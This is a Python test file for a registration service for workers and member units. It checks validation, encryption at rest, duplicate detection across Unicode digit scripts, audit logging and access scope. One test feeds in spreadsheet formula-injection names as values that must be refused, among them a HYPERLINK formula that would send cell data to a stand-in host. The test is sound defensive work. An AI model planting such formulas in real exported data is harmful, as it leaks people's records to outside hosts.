"""register_worker / register_unit: validation, encryption at rest, uniqueness, scope."""
from datetime import date

import pytest

from huzhu.conftest import KUNDULUN, SYSTEM, make_staff, make_unit
from huzhu.core.actors import SystemActor
from huzhu.core.crypto import blind_index
from huzhu.core.errors import Conflict, NotFound, ValidationFailed
from huzhu.core.idnumbers import make_credit_code, make_resident_id
from huzhu.core.scopes import Scope
from huzhu.members import queries, services
from huzhu.members.models import Employment, MemberUnit, Worker
from huzhu.regions.models import Role

NUMBER = make_resident_id(KUNDULUN, date(1988, 7, 9), 124)


def register(unit, **fields):
    return services.register_worker(actor=SystemActor(SYSTEM), unit=unit, name=fields.pop("name", "乌云"),
                                    id_number=fields.pop("id_number", NUMBER), **fields)


def test_a_worker_gets_gender_and_birth_date_from_the_id_number(home_unit):
    worker = register(home_unit)
    assert (worker.gender, worker.birth_on) == ("F", date(1988, 7, 9))
    assert worker.league_id == "150200" and worker.county_id == KUNDULUN
    assert Employment.objects.filter(worker=worker, ended_on__isnull=True).count() == 1


def test_the_id_number_and_bank_account_are_encrypted_at_rest(home_unit):
    worker = register(home_unit, bank_account="6222 0212 3456 7890 123")
    row = Worker.objects.values().get(pk=worker.pk)
    assert NUMBER not in str(row)
    assert "6222021234567890123" not in str(row)
    assert worker.reveal_id_number() == NUMBER
    assert row["bank_account_masked"] == "6222***********0123"


def test_the_phone_is_encrypted_at_rest_with_a_blind_index_and_a_masked_form(home_unit):
    worker = register(home_unit, phone="+86 139-0000-1111")
    row = Worker.objects.values().get(pk=worker.pk)
    assert "13900001111" not in str(row) and "00001111" not in str(row)
    assert (row["phone_masked"], row["phone_index"]) == ("139****1111", blind_index("13900001111"))
    assert worker.reveal_phone() == "13900001111"
    for typed in ("13900001111", "+8613900001111", "139 0000 1111"):
        assert list(queries.search_workers(SYSTEM, text=typed)) == [worker], typed


def test_a_changed_bank_account_is_found_by_its_new_blind_index(home_unit):
    worker = register(home_unit, bank_account="6222021234567890123")
    services.change_bank_account(actor=SystemActor(SYSTEM), worker=worker, bank_name="中国农业银行",
                                 bank_account="6228480012345678901", reason="原卡已注销")
    assert Worker.objects.get(pk=worker.pk).bank_account_index == blind_index("6228480012345678901")


def test_the_same_id_number_cannot_be_registered_twice_even_at_another_unit(home_unit, other_unit):
    register(home_unit)
    with pytest.raises(Conflict, match="已登记") as caught:
        register(other_unit, name="另一个人")
    assert caught.value.field == "id_number"
    assert Worker.objects.count() == 1


@pytest.mark.parametrize(
    ("fields", "field"),
    [
        pytest.param({"id_number": NUMBER[:-1] + "0" if NUMBER[-1] != "0" else NUMBER[:-1] + "1"}, "id_number", id="id-checksum"),
        pytest.param({"phone": "12345"}, "phone", id="phone"),
        pytest.param({"name": "  "}, "name", id="name-empty"),
        pytest.param({"bank_account": "1234"}, "bank_account", id="bank-account"),
    ],
)
def test_bad_input_names_the_field_and_saves_nothing(home_unit, fields, field):
    with pytest.raises(ValidationFailed) as caught:
        register(home_unit, **fields)
    assert caught.value.field == field
    assert not Worker.objects.exists() and not Employment.objects.exists()


def test_a_county_clerk_cannot_register_a_worker_at_a_unit_of_another_county(home_unit, other_unit):
    with pytest.raises(NotFound):
        services.register_worker(actor=SystemActor(Scope("county", KUNDULUN, role="agency")), unit=other_unit,
                                 name="巴特尔", id_number=NUMBER)


def test_a_unit_with_a_bad_credit_code_is_refused_with_the_field(db):
    with pytest.raises(ValidationFailed) as caught:
        services.register_unit(actor=SystemActor(SYSTEM), name="测试", credit_code="91150203MA0C12345X",
                               county_code=KUNDULUN)
    assert caught.value.field == "credit_code"
    assert not MemberUnit.objects.exists()


def test_a_unit_with_an_unknown_county_is_refused(db):
    with pytest.raises(ValidationFailed, match="不存在"):
        services.register_unit(actor=SystemActor(SYSTEM), name="测试", county_code="159999",
                               credit_code=make_credit_code("91", KUNDULUN, "MA0C1234"))


def test_duplicate_credit_codes_are_refused(db):
    unit = make_unit()
    with pytest.raises(Conflict):
        services.register_unit(actor=SystemActor(SYSTEM), name="重复", credit_code=unit.credit_code,
                               county_code=KUNDULUN)


def test_registration_is_audited_without_the_clear_id_number(home_unit):
    from huzhu.audit.models import AuditEvent

    register(home_unit)
    event = AuditEvent.objects.get(action="register_worker")
    assert NUMBER not in str(event.after)
    assert event.after["id_number"].startswith("1502")


# --- one person, one registration, whatever digits the number is typed in (issue 16, item 15) ---

ZEROS = {"full-width": 0xFF10, "arabic-indic": 0x0660, "devanagari": 0x0966, "mongolian": 0x1810}
# ends in X: before the fix the check digit then matched whatever digits the rest was typed in
MAN = make_resident_id(KUNDULUN, date(1985, 3, 2), 29)


def in_script(text: str, script: str) -> str:
    return "".join(chr(ZEROS[script] + int(c)) if c.isdigit() else c for c in text)


@pytest.mark.parametrize("script", list(ZEROS))
def test_a_registered_persons_number_in_other_digits_is_refused_as_a_duplicate(home_unit, other_unit, script):
    register(home_unit, id_number=MAN)
    with pytest.raises(Conflict, match="已登记"):
        register(other_unit, name="另一个人", id_number=in_script(MAN, script))
    assert Worker.objects.count() == 1


@pytest.mark.parametrize("script", list(ZEROS))
def test_a_number_in_other_digits_is_stored_in_ascii_with_the_right_gender(home_unit, script):
    worker = register(home_unit, id_number=in_script(MAN, script), phone=in_script("13900001111", script),
                      bank_account=in_script("6222021234567890123", script))
    worker.refresh_from_db()
    assert (worker.reveal_id_number(), worker.gender, worker.birth_on) == (MAN, "M", date(1985, 3, 2))
    assert worker.id_number_index == blind_index(MAN)
    assert worker.reveal_phone() == "13900001111"
    assert (worker.reveal_bank_account(), worker.bank_account_index) == ("6222021234567890123",
                                                                         blind_index("6222021234567890123"))


def test_a_bank_account_with_letters_is_refused_naming_the_field(home_unit):
    with pytest.raises(ValidationFailed) as caught:
        register(home_unit, bank_account="6222〇21234567890123")
    assert caught.value.field == "bank_account" and "银行卡号" in caught.value.message


@pytest.mark.parametrize("script", list(ZEROS))
def test_a_units_credit_code_in_other_digits_is_the_same_unit(db, script):
    unit = make_unit()
    with pytest.raises(Conflict):
        services.register_unit(actor=SystemActor(SYSTEM), name="重复", credit_code=in_script(unit.credit_code, script),
                               county_code=KUNDULUN)


# --- names that would run as spreadsheet formulas (issue 16, item 14) ---

@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/"&C2,"点我")', "\t=1+1", " @SUM(A1)"])
def test_a_formula_name_is_refused_at_registration(home_unit, name):
    with pytest.raises(ValidationFailed, match="公式") as caught:
        register(home_unit, name=name)
    assert caught.value.field == "name"
    assert not Worker.objects.exists()


def test_a_formula_unit_name_is_refused(db):
    with pytest.raises(ValidationFailed, match="公式") as caught:
        services.register_unit(actor=SystemActor(SYSTEM), name="=1+1", county_code=KUNDULUN,
                               credit_code=make_credit_code("91", KUNDULUN, "MA0C1234"))
    assert caught.value.field == "name"


def test_the_scope_comes_from_the_actor_a_county_clerk_of_another_county_finds_no_unit(home_unit, other_unit):
    clerk = make_staff("clerk_of_kundulun", Role.AGENCY, division=KUNDULUN)
    with pytest.raises(NotFound):
        services.register_worker(actor=clerk, unit=other_unit, name="巴特尔", id_number=NUMBER)
    assert services.register_worker(actor=clerk, unit=home_unit, name="巴特尔", id_number=NUMBER).unit == home_unit
